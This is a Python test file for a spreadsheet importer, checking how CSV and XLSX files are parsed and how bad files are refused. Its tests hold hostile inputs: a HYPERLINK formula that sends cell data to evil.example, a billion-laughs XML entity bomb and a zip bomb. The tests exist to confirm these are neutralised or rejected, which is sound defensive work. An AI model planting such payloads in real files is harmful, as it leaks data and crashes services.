"""Files of every kind that people bring, and should not: each is read or refused in words."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from backend.errors import AppError
from backend.spreadsheets import limits, taking_in, workbooks
from backend.spreadsheets.files import ImportFiles
from tests.backend.spreadsheets.conftest import csv_of, xlsx_of

BOMB_ENTITIES = "".join(f'<!ENTITY a{one} "{f"&a{one - 1};" * 10}">' for one in range(1, 9))
SHEET = "xl/worksheets/sheet1.xml"


class Taken:
    """A file that was read, as its owner sees it."""

    def __init__(self, folder: Path, data: bytes, name: str = "file.csv") -> None:
        self.files = ImportFiles(folder, "one")
        self.files.put(0, data)
        reading = taking_in.Reading(self.files, name)
        for _ in reading.steps():
            pass
        self.count, self.preview = reading.count, reading.preview()

    @property
    def labels(self) -> list[str]:
        return [guess["label"] for guess in self.preview["columns"]]

    @property
    def rows(self) -> list[tuple[int, list[Any]]]:
        return [(row.number, row.cells) for row in self.files.rows(0, 1000)]


def with_part(book: bytes, name: str, content: bytes) -> bytes:
    """Return a workbook with one part replaced or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return made.getvalue()


def picture() -> bytes:
    made = io.BytesIO()
    Image.effect_noise((64, 64), 90).save(made, "PNG")
    return made.getvalue()


@pytest.mark.parametrize(
    ("encoding", "told"),
    [
        ("utf-8", "UTF-8"),
        ("utf-8-sig", "UTF-8"),
        ("utf-16", "UTF-16"),
        ("utf-16-le", "UTF-16"),
        ("cp1252", "Latin-1"),
    ],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_a_text_file_is_read_in_whatever_way_it_is_written(
    tmp_path: Path, encoding: str, told: str, delimiter: str
) -> None:
    lines = [delimiter.join(row) for row in (("Namn", "Ort"), ("Åsa", "Malmö"), ("Örjan", "Växjö"))]

    taken = Taken(tmp_path, csv_of(*lines, encoding=encoding))

    assert (taken.preview["encoding"], taken.preview["delimiter"]) == (told, delimiter)
    assert taken.rows == [(2, ["Åsa", "Malmö"]), (3, ["Örjan", "Växjö"])]


def test_quoted_cells_hold_delimiters_quotes_and_lines(tmp_path: Path) -> None:
    taken = Taken(tmp_path, csv_of("Name,Note", '"Acme, Inc","He said ""no""\nand went"'))

    assert taken.rows == [(2, ["Acme, Inc", 'He said "no"\nand went'])]
    assert taken.preview["columns"][1]["type"] == "multi_line"


def test_a_cell_that_looks_like_a_formula_is_the_text_that_it_is(tmp_path: Path) -> None:
    bomb = '=HYPERLINK("http://evil.example?"&A1)'

    from_text = Taken(
        tmp_path / "a", csv_of("Name", '"' + bomb.replace('"', '""') + '"', "'=1+1", "@SUM(A1)")
    )
    from_book = Taken(tmp_path / "b", xlsx_of(("Name",), ("'+46 70 1",)), "b.xlsx")

    assert [cells for _, cells in from_text.rows] == [[bomb], ["=1+1"], ["@SUM(A1)"]]
    assert [cells for _, cells in from_book.rows] == [["+46 70 1"]]


def test_of_a_formula_in_a_workbook_the_value_last_shown_is_read(tmp_path: Path) -> None:
    book = xlsx_of(("Name", "Sum"), ("Acme", 1))
    sheet = zipfile.ZipFile(io.BytesIO(book)).read(SHEET)
    shown = sheet.replace(b"<v>1</v>", b"<f>1+41</f><v>42</v>")

    taken = Taken(tmp_path, with_part(book, SHEET, shown), "b.xlsx")

    assert shown != sheet
    assert taken.rows == [(2, ["Acme", 42])]


def test_columns_without_a_name_or_with_the_same_are_told_apart(tmp_path: Path) -> None:
    taken = Taken(tmp_path, csv_of("Name,name,,,  ", "a,b,c,,", "d,e,f,,"))

    assert taken.labels == ["Name", "name 2", "Column C"]
    assert [guess["id"] for guess in taken.preview["columns"]] == ["name", "name_2", "column_c"]


def test_a_label_of_five_thousand_characters_is_cut_to_what_a_label_holds(tmp_path: Path) -> None:
    taken = Taken(tmp_path, csv_of(f"{'x' * 5000},{'x' * 5000}", "a,b"))

    assert [len(label) for label in taken.labels] == [200, 194]


def test_names_of_columns_that_no_field_may_have_get_other_ids(tmp_path: Path) -> None:
    taken = Taken(tmp_path, csv_of("Id,Owner,日本", "1,b,c"))

    assert [guess["id"] for guess in taken.preview["columns"]] == ["id_2", "owner_2", "column"]


def test_a_file_with_names_and_no_rows_is_one(tmp_path: Path) -> None:
    taken = Taken(tmp_path, csv_of("Name,Town", "", ""))

    assert (taken.count, taken.labels, taken.rows) == (0, ["Name", "Town"], [])


def test_empty_rows_keep_the_numbers_of_the_others(tmp_path: Path) -> None:
    taken = Taken(tmp_path, xlsx_of((), ("Name",), (), ("Acme",), (None,), ("Beta",)), "b.xlsx")

    assert taken.rows == [(4, ["Acme"]), (6, ["Beta"])]


def test_the_first_sheet_that_has_cells_is_read_and_names_what_is_made(tmp_path: Path) -> None:
    named = Taken(tmp_path / "a", xlsx_of(("Name",), ("Acme",), title="Lifts 2026"), "b.xlsx")

    assert named.preview["title"] == "Lifts 2026"


@pytest.mark.parametrize(
    "title", ["Sheet1", "Tabelle1", "Blad 1", "Sheet1 (2)", "Export_2026", "2026-11", "DATA"]
)
def test_a_sheet_that_nobody_has_named_is_called_as_its_file(tmp_path: Path, title: str) -> None:
    unnamed = Taken(tmp_path, xlsx_of(("Name",), ("Acme",), title=title), "my_list.xlsx")

    assert unnamed.preview["title"] == "my list"


NOT_A_BOOK = with_part(xlsx_of(("a",)), SHEET, b"<worksheet><sheetData><row><c r='A1'><v>1")
LAUGHS = (
    f'<!DOCTYPE x [<!ENTITY a0 "{"ha" * 1000}">{BOMB_ENTITIES}]>'
    "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData><row r='1'>"
    "<c r='A1' t='inlineStr'><is><t>&a8;</t></is></c></row></sheetData></worksheet>"
)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "spreadsheet-empty"),
        (b"\n\n \n", "spreadsheet-empty"),
        (picture(), "spreadsheet-not-text"),
        (bytes(range(256)) * 40, "spreadsheet-not-text"),
        (b"PK\x03\x04 and no archive", "spreadsheet-not-a-workbook"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500), "spreadsheet-old-excel"),
        (NOT_A_BOOK, "spreadsheet-not-a-workbook"),
        (with_part(xlsx_of(("a",)), SHEET, LAUGHS.encode()), "spreadsheet-not-a-workbook"),
        (xlsx_of(("a",))[:-200], "spreadsheet-not-a-workbook"),
        (csv_of("Name", '"never closed' + "x" * 300_000), "spreadsheet-broken-row"),
        (csv_of(",".join(["x"] * 201), "a"), "spreadsheet-too-wide"),
        (xlsx_of(["x"] * 201, ["a"]), "spreadsheet-too-wide"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_no_spreadsheet_is_refused_in_words(tmp_path: Path, data: bytes, code: str) -> None:
    with pytest.raises(AppError) as refused:
        Taken(tmp_path, data, "image.csv")

    assert refused.value.code == code


def test_an_archive_that_unpacks_to_very_much_is_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = with_part(xlsx_of(("a",)), "xl/media/zeros", bytes(3_000_000))
    monkeypatch.setattr(workbooks, "UNPACKED_BYTES", 2_000_000)

    with pytest.raises(AppError) as refused:
        Taken(tmp_path, bomb, "b.xlsx")

    assert len(bomb) < 20_000
    assert refused.value.code == "spreadsheet-unpacks-too-large"


def test_cells_far_away_cost_nothing(tmp_path: Path) -> None:
    sheet = (
        "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        "<dimension ref='A1:XFD1048576'/><sheetData>"
        "<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>2</v></c></row>"
        "</sheetData></worksheet>"
    )

    taken = Taken(tmp_path, with_part(xlsx_of(("a",)), SHEET, sheet.encode()), "b.xlsx")

    assert (taken.count, taken.labels) == (0, ["1"])


def test_more_rows_than_there_may_be_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(taking_in, "MOST_ROWS", 3)

    with pytest.raises(AppError) as refused:
        Taken(tmp_path, csv_of("Name", "a", "b", "c", "d"))

    assert (refused.value.code, refused.value.arguments) == ("spreadsheet-too-long", {"maximum": 3})
    assert limits.MOST_ROWS == 100_000
